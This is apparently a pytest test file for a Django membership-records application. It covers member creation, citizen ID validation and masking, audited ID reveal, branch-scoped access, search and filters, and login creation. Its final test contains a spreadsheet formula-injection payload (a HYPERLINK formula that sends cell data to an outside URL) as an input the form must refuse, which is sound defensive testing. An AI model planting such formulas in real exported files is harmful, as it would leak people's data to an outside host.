"""Member files through the pages: create, edit, search and filter, reveal the ID number, create a login."""

from __future__ import annotations

import datetime
import re

import pytest
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.html import escape
from django.utils.translation import gettext

from chuxin.accounts.models import User
from chuxin.audit.models import AuditEntry
from chuxin.members import citizen_id
from chuxin.members.models import Member
from chuxin.orgs.services import organization_create
from chuxin.testing import make_member, make_user, valid_citizen_id


def zh(message: str) -> str:
    """A message as the page shows it: in the default language, HTML-escaped."""
    with translation.override("zh-hans"):
        return escape(gettext(message))


def form_data(world, **overrides) -> dict:
    born = datetime.date(1990, 4, 5)
    data = {
        "name": "韩梅梅", "gender": "female", "ethnicity": "汉族", "birth_date": born.isoformat(),
        "citizen_id": valid_citizen_id(born, male=False), "phone": "13812345678", "education": "bachelor",
        "organization": world.b1.pk, "category": "full", "joined_on": "2015-07-01", "full_member_on": "2016-07-01",
        "status": "active", "work_unit": "", "department": "", "post": "科员",
    }
    return data | overrides


def names_on(response) -> set[str]:
    return {m.name for m in response.context["page_obj"]}


# Create and edit


def test_a_secretary_creates_a_member_file(world, client_for):
    data = form_data(world)
    response = client_for(world.secretary).post(reverse("members:create"), data)
    member = Member.objects.get(name="韩梅梅")
    assert response.status_code == 302
    assert response["Location"] == reverse("members:detail", kwargs={"pk": member.pk})
    assert (member.name_pinyin, member.name_initials) == ("hanmeimei", "hmm")
    assert member.citizen_id_digest == citizen_id.digest(data["citizen_id"])
    assert AuditEntry.objects.filter(action=AuditEntry.Action.CREATE, target_id=str(member.pk),
                                     actor=world.secretary).exists()


def test_a_double_submit_of_the_same_id_gives_a_duplicate_error_and_one_row(world, client_for):
    client = client_for(world.secretary)
    data = form_data(world)
    assert client.post(reverse("members:create"), data).status_code == 302
    again = client.post(reverse("members:create"), data | {"name": "韩梅"})
    assert again.status_code == 200
    assert zh("A member with this citizen ID number is already registered.") in again.content.decode()
    assert Member.objects.filter(citizen_id_digest=citizen_id.digest(data["citizen_id"])).count() == 1


def test_the_form_shows_a_bad_check_digit(world, client_for):
    data = form_data(world)
    wrong = data["citizen_id"][:17] + ("0" if data["citizen_id"][17] != "0" else "1")
    response = client_for(world.secretary).post(reverse("members:create"), data | {"citizen_id": wrong})
    assert response.status_code == 200
    assert zh("The check digit of this citizen ID number is wrong; please check for a typing error.") in (
        response.content.decode()
    )
    assert not Member.objects.filter(name="韩梅梅").exists()


def test_a_secretary_cannot_file_a_member_in_another_branch(world, client_for):
    response = client_for(world.secretary).post(reverse("members:create"), form_data(world, organization=world.b2.pk))
    assert response.status_code == 200
    assert response.context["form"].errors["organization"]
    assert not Member.objects.filter(name="韩梅梅").exists()


def test_edit_keeps_the_id_number_when_the_field_is_left_empty(world, client_for):
    member = world.member
    digest, encrypted = member.citizen_id_digest, member.citizen_id_encrypted
    number = citizen_id.decrypt(encrypted)
    data = form_data(world, name="李四", gender="male", birth_date=member.birth_date.isoformat(), citizen_id="",
                     phone="13900000009", joined_on="2010-07-01", full_member_on="2011-07-01")
    response = client_for(world.secretary).post(reverse("members:edit", kwargs={"pk": member.pk}), data)
    assert response.status_code == 302
    member.refresh_from_db()
    assert member.phone == "13900000009"
    assert member.citizen_id_digest == digest
    assert citizen_id.decrypt(member.citizen_id_encrypted) == number
    entry = AuditEntry.objects.get(action=AuditEntry.Action.UPDATE, target_id=str(member.pk))
    assert "citizen_id" not in entry.changes
    assert entry.changes["phone"] == ["13900000001", "13900000009"]


def test_the_edit_form_never_puts_the_number_in_the_page(world, client_for):
    number = citizen_id.decrypt(world.member.citizen_id_encrypted)
    response = client_for(world.secretary).get(reverse("members:edit", kwargs={"pk": world.member.pk}))
    html = response.content.decode()
    assert number not in html
    assert world.member.citizen_id_masked in html


# Search and filters


@pytest.fixture
def crowd(world):
    """Besides 李四 (B1, phone 13900000001) and 王五 (B2): people to tell apart."""
    return {
        "李思思": make_member(world.g1, "李思思", male=False, category="probationary", full_member_on=None,
                           phone="13700000002", education="postgraduate", born=datetime.date(1995, 1, 1)),
        "赵三": make_member(world.b1, "赵三", phone="13600000003", born=datetime.date(1970, 3, 3),
                          status=Member.Status.TRANSFERRED_OUT),
        "张伟": make_member(world.b1, "张伟", phone="13500000004", education="bachelor",
                          born=datetime.date(1988, 8, 8)),
    }


@pytest.mark.parametrize(
    ("q", "expected"),
    [
        ("ls", {"李四", "李思思"}),  # pinyin initials
        ("LS", {"李四", "李思思"}),
        ("lisi", {"李四", "李思思"}),  # full pinyin: a prefix of lisisi
        ("lisis", {"李思思"}),
        ("李四", {"李四"}),  # Chinese name
        ("思", set()),  # one character: a surname, unless "anywhere in the name" is ticked (below)
        ("李", {"李四", "李思思"}),
        ("张", {"张伟"}),
        ("13900000001", {"李四"}),  # phone digits
        ("0000004", {"张伟"}),
        ("zw", {"张伟"}),
        ("ww", {"王五"}),  # the worker sees B2 too
        ("xyz", set()),
    ],
)
def test_search(world, crowd, client_for, q, expected):
    response = client_for(world.worker).get(reverse("members:list"), {"q": q})
    assert names_on(response) == expected
    for name in expected:
        assert name in response.content.decode()


@pytest.mark.parametrize(
    ("q", "expected"),
    [("思", {"李思思"}), ("四", {"李四"}), ("伟", {"张伟"}), ("李", {"李四", "李思思"}), ("思思", {"李思思"})],
)
def test_search_anywhere_in_the_name(world, crowd, client_for, q, expected):
    response = client_for(world.worker).get(reverse("members:list"), {"q": q, "contains": "on"})
    assert names_on(response) == expected


def test_search_from_the_htmx_box_returns_the_results_only(world, crowd, client_for):
    response = client_for(world.worker).get(reverse("members:list"), {"q": "ls"}, headers={"HX-Request": "true"})
    html = response.content.decode()
    assert html.lstrip().startswith('<div id="member-results">')
    assert "李思思" in html and "张伟" not in html


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        # Members on the roll (在册) unless a status is chosen: 赵三, transferred out, only when asked for.
        ({"organization": "B1"}, {"李四", "李思思", "张伟"}),  # with its Party group
        ({"organization": "B1", "status": "all"}, {"李四", "李思思", "赵三", "张伟"}),
        ({"organization": "B1", "status": ""}, {"李四", "李思思", "张伟"}),  # the old form's "All": the roll
        ({"organization": "G1"}, {"李思思"}),
        ({"organization": "B2"}, {"王五"}),
        ({"category": "probationary"}, {"李思思"}),
        ({"category": "full", "organization": "B1"}, {"李四", "张伟"}),
        ({"category": "full", "organization": "B1", "status": "all"}, {"李四", "赵三", "张伟"}),
        ({"status": "transferred_out"}, {"赵三"}),
        ({"education": "postgraduate"}, {"李思思"}),
        ({"education": "bachelor", "q": "zw"}, {"张伟"}),
    ],
)
def test_filters(world, crowd, client_for, params, expected):
    codes = {"B1": world.b1, "G1": world.g1, "B2": world.b2}
    if "organization" in params:
        params = params | {"organization": codes[params["organization"]].pk}
    response = client_for(world.worker).get(reverse("members:list"), params)
    assert names_on(response) == expected


def test_the_list_counts_the_roll_as_the_home_page_does_and_offers_every_status(world, crowd, client_for, english):
    client = client_for(world.worker)
    home = client.get(reverse("portal:home"))
    on_roll = home.context["counts"]["active"]
    response = client.get(reverse("members:list"))
    assert response.context["page_obj"].count == on_roll == 4  # 赵三 has been transferred out
    page = response.content.decode()
    assert "4 members on the roll" in page
    assert 'href="?status=all" data-testid="show-all-statuses"' in page
    assert '<option value="active" selected>' in page
    everyone = client.get(reverse("members:list"), {"status": "all"})
    assert everyone.context["page_obj"].count == 5
    assert "5 members" in everyone.content.decode() and "show-all-statuses" not in everyone.content.decode()
    # The export lists what the list shows.
    from io import BytesIO

    from openpyxl import load_workbook

    sheet = load_workbook(BytesIO(client.get(reverse("members:export")).content)).worksheets[0]
    assert "赵三" not in {cell.value for row in sheet.iter_rows() for cell in row}


def _years_before(today: datetime.date, years: int) -> datetime.date:
    try:
        return today.replace(year=today.year - years)
    except ValueError:  # 29 February
        return today.replace(year=today.year - years, day=28)


def test_age_bands_at_the_35_36_boundary(world, client_for):
    branch = organization_create(actor=None, parent=world.pc, name="年龄支部", code="AGE", kind="branch")
    today = timezone.localdate()
    people = {
        "满三十五": _years_before(today, 35),  # 35 today
        "明天三十六": _years_before(today, 36) + datetime.timedelta(days=1),  # still 35
        "满三十六": _years_before(today, 36),  # 36 today
        "四十五岁": _years_before(today, 46) + datetime.timedelta(days=1),  # 45, turns 46 tomorrow
        "满四十六": _years_before(today, 46),
    }
    for name, born in people.items():
        joined = born + datetime.timedelta(days=365 * 20)
        make_member(branch, name, born=born, joined_on=joined, full_member_on=joined + datetime.timedelta(days=400))
    client = client_for(world.worker)

    def band(key: str) -> set[str]:
        return names_on(client.get(reverse("members:list"), {"age_band": key, "organization": branch.pk}))

    assert band("le35") == {"满三十五", "明天三十六"}
    assert band("36_45") == {"满三十六", "四十五岁"}
    assert band("46_55") == {"满四十六"}


def test_the_list_never_shows_another_branchs_members_to_a_secretary(world, crowd, client_for):
    client = client_for(world.secretary)
    response = client.get(reverse("members:list"), {"status": "all"})
    assert names_on(response) == {"李四", "李思思", "赵三", "张伟"}
    assert "王五" not in response.content.decode()
    # Asking for the other branch explicitly does not widen the scope.
    response = client.get(reverse("members:list"), {"organization": world.b2.pk})
    assert "王五" not in response.content.decode()
    response = client.get(reverse("members:list"), {"q": "ww"})
    assert names_on(response) == set()


def test_the_list_shows_masked_numbers_only(world, client_for):
    response = client_for(world.worker).get(reverse("members:list"))
    html = response.content.decode()
    for member in Member.objects.all():
        assert member.citizen_id_masked in html
        assert citizen_id.decrypt(member.citizen_id_encrypted) not in html


# The ID number on the detail page


def test_the_detail_page_shows_the_masked_number_only(world, client_for):
    number = citizen_id.decrypt(world.member.citizen_id_encrypted)
    response = client_for(world.worker).get(reverse("members:detail", kwargs={"pk": world.member.pk}))
    html = response.content.decode()
    assert world.member.citizen_id_masked in html
    assert number not in html
    assert reverse("members:reveal-id", kwargs={"pk": world.member.pk}) in html  # the worker may reveal it


def test_a_worker_reveals_the_full_number_and_it_is_audited(world, client_for):
    number = citizen_id.decrypt(world.member.citizen_id_encrypted)
    response = client_for(world.worker).post(reverse("members:reveal-id", kwargs={"pk": world.member.pk}),
                                             headers={"HX-Request": "true"})
    assert response.status_code == 200
    assert f'data-testid="citizen-id-full">{number}<' in response.content.decode()
    entry = AuditEntry.objects.get(action=AuditEntry.Action.REVEAL)
    assert (entry.actor, entry.target_id, entry.organization_path) == (
        world.worker, str(world.member.pk), world.b1.path
    )


def test_a_secretary_cannot_reveal(world, client_for):
    client = client_for(world.secretary)
    detail = client.get(reverse("members:detail", kwargs={"pk": world.member.pk}))
    assert reverse("members:reveal-id", kwargs={"pk": world.member.pk}) not in detail.content.decode()
    response = client.post(reverse("members:reveal-id", kwargs={"pk": world.member.pk}))
    assert response.status_code == 403
    assert citizen_id.decrypt(world.member.citizen_id_encrypted) not in response.content.decode()
    assert not AuditEntry.objects.filter(action=AuditEntry.Action.REVEAL).exists()


def test_a_member_reveals_their_own_number(world, client_for):
    number = citizen_id.decrypt(world.member.citizen_id_encrypted)
    response = client_for(world.member_user).post(reverse("members:reveal-id", kwargs={"pk": world.member.pk}))
    assert response.status_code == 200
    assert number in response.content.decode()
    assert AuditEntry.objects.filter(action=AuditEntry.Action.REVEAL, actor=world.member_user).count() == 1


def test_a_member_cannot_reveal_someone_elses_number(world, client_for):
    other = make_member(world.b1, "张伟", born=datetime.date(1988, 8, 8))
    response = client_for(world.member_user).post(reverse("members:reveal-id", kwargs={"pk": other.pk}))
    assert response.status_code == 403


# Login accounts for members


def test_a_worker_creates_a_login_for_a_member(world, client_for):
    member = make_member(world.b1, "张伟", phone="13500000004", born=datetime.date(1988, 8, 8))
    client = client_for(world.worker)
    response = client.post(reverse("members:account-create", kwargs={"pk": member.pk}))
    assert response.status_code == 200
    password = re.search(r'data-testid="one-time-password">([^<]+)<', response.content.decode()).group(1)
    account = User.objects.get(username="13500000004")
    assert account.phone == "13500000004"
    assert account.must_change_password
    assert account.check_password(password)
    member.refresh_from_db()
    assert member.user == account
    assert AuditEntry.objects.filter(action=AuditEntry.Action.CREATE, target_type="accounts.user",
                                     target_id=str(account.pk), actor=world.worker).exists()
    # Shown once: the member file does not show it again, and a second request makes no second account.
    detail = client.get(reverse("members:detail", kwargs={"pk": member.pk}))
    assert password not in detail.content.decode()
    again = client.post(reverse("members:account-create", kwargs={"pk": member.pk}), follow=True)
    assert zh("%(name)s already has a login account.") % {"name": "张伟"} in again.content.decode()
    assert password not in again.content.decode()
    assert User.objects.filter(phone="13500000004").count() == 1


def test_without_a_phone_the_login_comes_from_the_name(world, client_for):
    make_user("zhangwei")  # taken: the next free one is used
    member = make_member(world.b1, "张伟", born=datetime.date(1988, 8, 8))
    response = client_for(world.worker).post(reverse("members:account-create", kwargs={"pk": member.pk}))
    assert response.status_code == 200 and "zhangwei2" in response.content.decode()
    member.refresh_from_db()
    assert member.user.username == "zhangwei2" and member.user.phone is None and str(member.user) == "张伟"


def test_the_new_login_must_change_its_password_first(world, client):
    member = make_member(world.b1, "张伟", phone="13500000004", born=datetime.date(1988, 8, 8))
    client.force_login(world.worker)
    html = client.post(reverse("members:account-create", kwargs={"pk": member.pk})).content.decode()
    password = re.search(r'data-testid="one-time-password">([^<]+)<', html).group(1)
    client.post(reverse("accounts:logout"))
    response = client.post(reverse("accounts:login"), {"identifier": "13500000004", "password": password},
                           follow=True)
    assert response.redirect_chain[-1][0] == reverse("accounts:password_change")


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x/?"&E2,"x")', "+1", "-韩梅梅", "@SUM(A1)"])
def test_a_name_a_spreadsheet_would_run_as_a_formula_is_refused(world, client_for, name):
    data = form_data(world, name=name)
    response = client_for(world.secretary).post(reverse("members:create"), data)
    assert response.status_code == 200
    assert response.context["form"].errors["name"] == [
        gettext("This cannot start with =, +, -, @ or a tab: spreadsheet programs would run it as a formula.")
    ]
    assert zh("This cannot start with =, +, -, @ or a tab: spreadsheet programs would run it as a formula.") in (
        response.content.decode()
    )
    assert not Member.objects.filter(citizen_id_digest=citizen_id.digest(data["citizen_id"])).exists()
